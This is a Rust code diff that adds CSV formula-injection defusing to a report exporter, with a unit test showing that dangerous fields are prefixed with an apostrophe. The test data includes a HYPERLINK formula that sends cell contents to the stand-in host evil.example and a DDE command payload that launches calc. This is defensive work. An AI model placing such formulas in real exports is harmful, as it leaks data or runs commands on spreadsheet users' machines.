@@ -5,8 +5,10 @@
 //! Quoting follows RFC 4180: fields holding a comma, a quote or a line break are quoted, quotes
 //! doubled, and records end with CRLF. Unknown values are empty fields, never 0.
 //!
-//! Texts are written verbatim, so a spreadsheet may read an answer starting with `=` as a
-//! formula; the report keeps the data exact rather than guess what a reader's program does.
+//! A field a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return, and not a plain number) gets a leading `'`, as OWASP's CSV injection
+//! guidance says (CWE-1236): a model's answer `=HYPERLINK(…)` must not become a live link or a
+//! command in Excel, LibreOffice or Sheets. The JSON export keeps every text exact.
 
 use super::{Report, ResponseSection, format_number};
 
@@ -119,8 +121,16 @@ fn push_record(out: &mut String, fields: impl IntoIterator<Item = String>) {
     out.push_str("\r\n");
 }
 
-/// One field, quoted when RFC 4180 requires it.
+/// One field, defused if a spreadsheet would read it as a formula, and quoted when RFC 4180
+/// requires it.
 fn push_field(out: &mut String, field: &str) {
+    let defused;
+    let field = if is_formula(field) {
+        defused = format!("'{field}");
+        defused.as_str()
+    } else {
+        field
+    };
     if field.contains([',', '"', '\r', '\n']) {
         out.push('"');
         out.push_str(&field.replace('"', "\"\""));
@@ -130,9 +140,39 @@ fn push_field(out: &mut String, field: &str) {
     }
 }
 
+/// Whether a spreadsheet would evaluate `field`: it starts with a formula character and is not
+/// just a number (`-1.5` stays a number).
+fn is_formula(field: &str) -> bool {
+    field.starts_with(['=', '+', '-', '@', '\t', '\r']) && field.parse::<f64>().is_err()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formulas_are_defused() {
+        let mut out = String::new();
+        push_record(
+            &mut out,
+            [
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                "+cmd|' /C calc'!A0",
+                "-2+3",
+                "@SUM(A1)",
+                "\tx",
+                "\r=1",
+                "-1.5",
+                "a=b",
+                "",
+            ]
+            .map(str::to_owned),
+        );
+        assert_eq!(
+            out,
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\tx,\"'\r=1\",-1.5,a=b,\r\n"
+        );
+    }
 
     #[test]
     fn fields_are_quoted_as_rfc_4180_says() {
